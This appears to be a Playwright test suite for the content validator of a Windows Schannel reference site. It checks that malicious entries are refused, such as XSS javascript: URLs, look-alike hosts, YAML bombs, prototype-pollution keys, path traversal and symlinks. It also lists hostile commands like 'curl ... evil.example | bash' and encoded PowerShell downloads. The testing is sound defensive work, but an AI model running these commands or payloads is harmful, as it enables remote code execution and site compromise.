import { existsSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { findAddressFault } from '../../lib/content/schema/publicAddress.ts'
import { type Change, checkChanged } from '../fixtures/contentTree.ts'

const state = 'content/states/1205.mdx'
const guide = 'content/guides/noise.mdx'
const inState = (from: string, to: string): Change[] => [{ file: state, from, to }]
const prose = (body: string): Change[] => [
  {
    file: guide,
    from: 'shows: The question. }\n---\n',
    to: `shows: The question. }\n---\n\n## Security perspective\n\n${body}`,
  },
]

/** The one source of the state called a page of Microsoft, and its meaning official. */
const officialBy = (address: string): Change[] => [
  {
    file: state,
    to: `---
code: "1205"
verdict: No usable cipher suite
checked: 2026-01-02
meaning: { text: Seen beside alert 40., grade: official, sources: [a-page] }
sightings:
  - { source: a-page, event: "36888", alert: "40", role: server, windows: not stated }
related: [/alert/40/]
sources:
  - { id: a-page, address: "${address}", title: A page, kind: microsoft-doc, shows: The number. }
---
`,
  },
]

/** A file that an expression would write if it ran. */
const mark = join(tmpdir(), `schannel-reference-attack-${process.pid}`)
const code = `require('fs').writeFileSync('${mark}','x')`

const refused: { name: string; changes: Change[]; says: string }[] = [
  {
    name: 'a source with javascript:',
    changes: inState('https://blog.example/post', 'javascript:alert(1)//'),
    says: 'sources[1].address: an address that starts with https:// or http://',
  },
  {
    name: 'a source with data:',
    changes: inState('https://blog.example/post', 'data:text/html,x'),
    says: 'sources[1].address: an address that starts with https:// or http://',
  },
  {
    name: 'javascript: hidden behind a blank and upper case',
    changes: inState('https://blog.example/post', '" JaVaScRiPt:alert(1)"'),
    says: 'sources[1].address: an address that starts with https:// or http://',
  },
  {
    name: 'a host in punycode',
    changes: inState('https://blog.example/post', 'https://xn--mcrosoft-q2a.com/x'),
    says: 'look-alikes and punycode',
  },
  {
    name: 'a host with a Cyrillic letter',
    changes: inState('https://blog.example/post', 'https://learn.micr\u043esoft.com/x'),
    says: 'look-alikes and punycode',
  },
  {
    name: 'a known host as the name before an @',
    changes: inState('https://blog.example/post', 'https://learn.microsoft.com@evil.example/'),
    says: 'without a name before an @',
  },
  {
    name: 'a look-alike host that is to carry an official grade',
    changes: [
      { file: 'content/guides/noise.mdx', from: 'kind: forum', to: 'kind: microsoft-doc' },
      { file: state, from: 'kind: blog', to: 'kind: microsoft-doc' },
    ],
    says: 'sources[1].kind: an address of Microsoft for kind microsoft-doc',
  },
  {
    name: 'a dangerous address in the table of statuses',
    changes: [
      {
        file: 'content/statuses.yaml',
        to: '- { code: "0x80090301", name: SEC_E_INVALID_HANDLE, family: SSPI, sources: ["javascript:alert(1)"] }\n',
      },
    ],
    says: 'an address that starts with https:// or http://',
  },
  {
    name: 'a dangerous address in a language file',
    changes: [
      {
        file: 'content/wordings/de.yaml',
        to: 'language: de\nstatuses: [{ code: "0x80090326", text: Falsch, known: verbatim, source: "data:text/html,x" }]\n',
      },
    ],
    says: 'an address that starts with https:// or http://',
  },
  {
    name: 'a dangerous address in a file of peers',
    changes: [
      { file: 'content/peers/go.yaml', from: 'shown:', to: 'address: "javascript:alert(1)"\nshown:' },
    ],
    says: 'an address that starts with https:// or http://',
  },
  {
    name: 'YAML aliases that multiply',
    changes: inState('verdict:', 'a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: [*b, *b, *b]\nverdict:'),
    says: 'no YAML anchors',
  },
  {
    name: 'a thousand open brackets',
    changes: inState('verdict:', `words: ${'['.repeat(50_000)}\nverdict:`),
    says: 'levels deep',
  },
  {
    name: 'a thousand lists in lists',
    changes: inState('verdict:', `words:\n  ${'- '.repeat(20_000)}x\nverdict:`),
    says: 'levels deep',
  },
  {
    name: 'a thousand fields in fields',
    changes: inState(
      'verdict:',
      `${Array.from({ length: 600 }, (_, i) => `${' '.repeat(i)}a:`).join('\n')} x\nverdict:`,
    ),
    says: 'levels deep',
  },
  {
    name: 'a huge file',
    changes: [{ file: state, to: `---\n${'a: b\n'.repeat(300_000)}---\n` }],
    says: 'file: a file of at most',
  },
  {
    name: 'a huge list beside the entries',
    changes: [{ file: 'content/synonyms.yaml', to: `- [ssl, tls]\n${'#'.repeat(1_100_000)}\n` }],
    says: 'content/synonyms.yaml:1  file: a file of at most',
  },
  {
    name: 'the key __proto__',
    changes: inState('verdict:', '__proto__: { polluted: yes }\nverdict:'),
    says: 'a meaning of its own in JavaScript (found "__proto__")',
  },
  {
    name: 'the key constructor, deep inside',
    changes: inState(
      '  grade: reported',
      '  constructor: { prototype: { polluted: yes } }\n  grade: reported',
    ),
    says: 'a meaning of its own in JavaScript (found "constructor")',
  },
  {
    name: 'the key __proto__ in a free table of a language file',
    changes: [{ file: 'content/wordings/de.yaml', to: 'language: de\ntypes: { __proto__: client }\n' }],
    says: 'a meaning of its own in JavaScript (found "__proto__")',
  },
  {
    name: 'a YAML tag that makes code',
    changes: inState('No usable cipher suite', '!!js/function "function(){}"'),
    says: 'front matter: valid YAML',
  },
  {
    name: 'a file name with a path in it',
    changes: [{ file: 'content/states/..%2f..%2fetc.mdx', to: 'x' }],
    says: 'a file name of plain letters, digits, dots and hyphens',
  },
  {
    name: 'a file name with a bidirectional override',
    changes: [{ file: 'content/states/12\u202e05.mdx', to: 'x' }],
    says: 'a file name of plain letters, digits, dots and hyphens',
  },
  {
    name: 'a file name that is a device on Windows',
    changes: [{ file: 'content/guides/con.mdx', to: 'x' }],
    says: 'a file name that Windows can store',
  },
  {
    name: 'a symbolic link to a file outside',
    changes: [{ file: 'content/states/1206.mdx', link: '/etc/hostname' }],
    says: 'file: a plain file, no symbolic link and no folder (found "a link")',
  },
  {
    name: 'a folder with the name of an entry',
    changes: [{ file: 'content/states/1206.mdx/x', to: 'x' }],
    says: 'file: a plain file, no symbolic link and no folder (found "a folder")',
  },
  {
    name: 'a bidirectional override in a sentence',
    changes: inState('Seen beside alert 40.', 'Seen \u202ebeside\u202c alert 40.'),
    says: 'meaning.text: text without invisible characters; delete it and type the word again, for example: handshake (found "U+202E")',
  },
  {
    name: 'a zero-width blank in a code',
    changes: inState('code: "1205"', 'code: "12\u200b05"'),
    says: 'code: the number of the state',
  },
  {
    name: 'digits of another script in a code',
    changes: inState('alert: "40"', 'alert: "٤٠"'),
    says: 'sightings[1].alert: an alert number',
  },
  {
    name: 'a Cyrillic letter in a Latin word',
    changes: inState('No usable cipher suite', 'No usable \u0441ipher suite'),
    says: 'a word in one alphabet',
  },
  {
    name: 'a Cyrillic letter in a symbol',
    changes: [
      {
        file: 'content/statuses/0x80090326.mdx',
        from: 'SEC_E_ILLEGAL_MESSAGE',
        to: 'SE\u0421_E_ILLEGAL_MESSAGE',
      },
    ],
    says: 'name: the symbol',
  },
  {
    name: 'an invisible character in a language file',
    changes: [
      {
        file: 'content/wordings/de.yaml',
        to: 'language: de\nstatuses: [{ code: "0x80090326", text: "Fal\u200bsch", known: fragment }]\n',
      },
    ],
    says: 'content/wordings/de.yaml:2  statuses[1].text: text without invisible characters',
  },
  {
    name: 'an expression in a heading',
    changes: [
      {
        file: guide,
        from: 'shows: The question. }\n---\n',
        to: `shows: The question. }\n---\n\n## {${code}}\n`,
      },
    ],
    says: 'body:',
  },
  {
    name: 'an expression in a list, a table and a quotation',
    changes: prose(
      `<Claim grade="reported" sources="a-thread">\n- {${code}}\n\n> {${code}}\n\n| a |\n| - |\n| {${code}} |\n</Claim>\n`,
    ),
    says: 'no braces in prose',
  },
  {
    name: 'an expression in the text of a link',
    changes: prose(`<Claim grade="reported" sources="a-thread">\n[{${code}}](/guide/noise/)\n</Claim>\n`),
    says: 'no braces in prose',
  },
  {
    name: 'an export in the middle of a line of prose',
    changes: prose(`text\nexport const x = ${code}\n`),
    says: 'body:',
  },
  {
    name: 'an import of a remote module',
    changes: prose('import x from "https://evil.example/x.js"\n'),
    says: 'no import or export',
  },
  {
    name: 'a style element and a style attribute',
    changes: prose('<style>body{}</style>\n\n<p style="color:red">x</p>\n'),
    says: 'body:',
  },
  {
    name: 'a component name with a dot',
    changes: prose('<Claim.constructor grade="reported" sources="a-thread">x</Claim.constructor>\n'),
    says: 'no component but',
  },
  {
    name: 'a component with the name of a prototype key',
    changes: prose('<__proto__ />\n'),
    says: 'body:',
  },
  {
    name: 'an address in angle brackets',
    changes: prose('<Claim grade="reported" sources="a-thread">\n<javascript:alert(1)>\n</Claim>\n'),
    says: 'body:',
  },
  {
    name: 'a bidirectional override in prose',
    changes: prose('<Claim grade="reported" sources="a-thread">\nx \u2067y\n</Claim>\n'),
    says: 'body: text without invisible characters',
  },
  {
    name: 'a redirect to another host',
    changes: [{ file: 'content/redirects.yaml', to: '- { from: /state/9/, to: //evil.example/, why: x }\n' }],
    says: '[1].to: an address of this site',
  },
  {
    name: 'a redirect that writes outside the site',
    changes: [{ file: 'content/redirects.yaml', to: '- { from: /../../x/, to: /state/1205/, why: x }\n' }],
    says: '[1].from: a whole address with a slash at both ends',
  },
  ...['/robots.txt/', '/api/v1/', '/assets/', '/./', '/index.html/', '/state/./'].map((from) => ({
    name: `a redirect that would write over ${from}`,
    changes: [{ file: 'content/redirects.yaml', to: `- { from: ${from}, to: /state/1205/, why: x }\n` }],
    says: '[1].from: the address of an entry or a combination that was taken away',
  })),
  {
    name: 'two redirects from one address',
    changes: [
      {
        file: 'content/redirects.yaml',
        to: '- { from: /state/1/, to: /state/1205/, why: x }\n- { from: /state/1/, to: /alert/40/, why: x }\n',
      },
    ],
    says: '[2].from: each address once',
  },
  {
    name: 'a folder that is a link to elsewhere',
    changes: [{ file: 'content/peers/go.yaml' }, { file: 'content/peers', link: '/etc' }],
    says: 'content/peers:1  file: a plain folder, no symbolic link',
  },
  {
    name: 'an archived copy of a look-alike that is to carry an official grade',
    changes: officialBy('https://web.archive.org/web/2020/https://learn.rnicrosoft.com/x'),
    says: 'sources[1].kind: an address of Microsoft for kind microsoft-doc',
  },
  ...[
    'https://learn.microsoft.com/en-us/answers/questions/1/x',
    'https://learn.microsoft.com/answers/questions/1/x',
    'https://web.archive.org/web/2020id_/https://learn.microsoft.com/en-us/answers/questions/1/x',
    'https://answers.microsoft.com/en-us/windows/forum/x',
    'https://social.technet.microsoft.com/Forums/x',
    'https://techcommunity.microsoft.com/t5/windows-server/x/m-p/1',
    'https://github.com/microsoft/x/issues/1',
  ].map((address) => ({
    name: `what anybody wrote on ${address} called a page of Microsoft`,
    changes: officialBy(address),
    says: 'anybody may write here, so choose the kind that fits: forum or issue',
  })),
  ...['\u3164', '\ufe0f', '\u034f', '\u2800', '\u{e0041}'].map((hidden) => ({
    name: `the invisible U+${hidden.codePointAt(0)?.toString(16)} in a sentence`,
    changes: inState('Seen beside', `Seen${hidden} beside`),
    says: 'meaning.text: text without invisible characters',
  })),
  {
    name: 'a pile of marks on one letter',
    changes: inState('Seen beside', `Se${'\u0301'.repeat(40)}en beside`),
    says: 'meaning.text: text without invisible characters',
  },
  ...['\u0565', '\u13df', '\u{1d41c}', '\uff45'].map((letter) => ({
    name: `the look-alike U+${letter.codePointAt(0)?.toString(16)} in a word`,
    changes: inState('cipher suite', `ciph${letter}r suite`),
    says: 'verdict: a word in one alphabet',
  })),
  {
    name: 'a link in a sentence to another host',
    changes: inState('[/alert/40/]', '[//evil.example/]'),
    says: 'related[1]: an address of this site',
  },
]

for (const { name, changes, says } of refused) {
  test(`an entry with ${name} is refused and runs nothing`, async () => {
    rmSync(mark, { force: true })
    expect((await checkChanged(...changes)).join('\n')).toContain(says)
    expect(existsSync(mark)).toBe(false)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  })
}

const inCheck = (command: string): Change => ({
  file: state,
  from: 'related:',
  to: `check:\n  - text: Look.\n    grade: reported\n    sources: [a-blog]\n    command: ${JSON.stringify(command)}\nrelated:`,
})

for (const command of [
  'iex (irm https://evil.example/x.ps1)',
  'curl -s https://evil.example/x | bash',
  'powershell -enc SQBFAFgA',
  "(New-Object Net.WebClient).DownloadString('https://evil.example')",
])
  test(`the command ${command} is refused, because nobody can read what it runs`, async () => {
    expect((await checkChanged(inCheck(command))).join()).toContain(
      'check[1].command: a command whose every part can be read here',
    )
  })

for (const command of [
  'Set-ItemProperty HKLM:\\x -Name Enabled -Value 0',
  'reg add HKLM\\x /v Enabled /t REG_DWORD /d 0',
  'Get-Service W3SVC | Restart-Service',
  'icacls C:\\keys /grant Everyone:F',
  'certutil -repairstore my 1',
])
  test(`the command ${command} is no check, because it changes the machine`, async () => {
    expect((await checkChanged(inCheck(command))).join()).toContain(
      'check[1].command: a command that only looks, such as Get-TlsCipherSuite',
    )
  })

for (const command of [
  'Get-TlsCipherSuite | Format-Table Name',
  'reg query "HKLM\\x" /s',
  'icacls C:\\keys /save C:\\temp\\acl.txt',
  'Start-Sleep 60; Get-WinEvent -ListLog System',
  'openssl s_client -connect server.example:443',
])
  test(`the command ${command} only looks`, async () => {
    expect(await checkChanged(inCheck(command))).toEqual([])
  })

test('HTML in a sentence is text and nothing else', async () => {
  const attack = '<img src=x onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1))'
  expect(await checkChanged({ file: state, from: 'Seen beside alert 40.', to: attack })).toEqual([])
})

test('nothing of a linked file is printed', async () => {
  const secret = join(tmpdir(), `schannel-reference-secret-${process.pid}`)
  writeFileSync(secret, 'TOP-SECRET')
  const problems = await checkChanged({ file: 'content/states/1206.mdx', link: secret })
  rmSync(secret)
  expect(problems.join('\n')).not.toContain('TOP-SECRET')
})

test('ordinary addresses are taken, also with parentheses, ports and non-ASCII paths', () => {
  for (const address of [
    'https://learn.microsoft.com/en-us/windows/',
    'http://www.webdebug.net:80/x',
    'http://www.networksteve.com/forum/topic.php/a_-_(1205,1/?Posts=9',
    'https://qiita.com/検索',
  ])
    expect(findAddressFault(address)).toBeUndefined()
})

for (const address of [
  'https://127.0.0.1/',
  'https://localhost/',
  'https://[::1]/',
  'https://2130706433/',
  'ftp://a.example/',
  'https://wiki.corp/',
  'https://learn.microsoft.com%2eevil.example/',
])
  test(`${address} is no public address`, () => {
    expect(findAddressFault(address)).toContain('for example https://learn.microsoft.com/')
  })

test('a line break in a file name or a field cannot begin a line of its own in the log', async () => {
  const problems = await checkChanged(
    { file: 'content/states/a\n::error::x.mdx', to: 'x' },
    { file: state, from: 'verdict:', to: '"a\\n::error::y": 1\nverdict:' },
  )
  expect(problems.length).toBeGreaterThan(1)
  for (const problem of problems) expect(problem).not.toContain('\n')
})
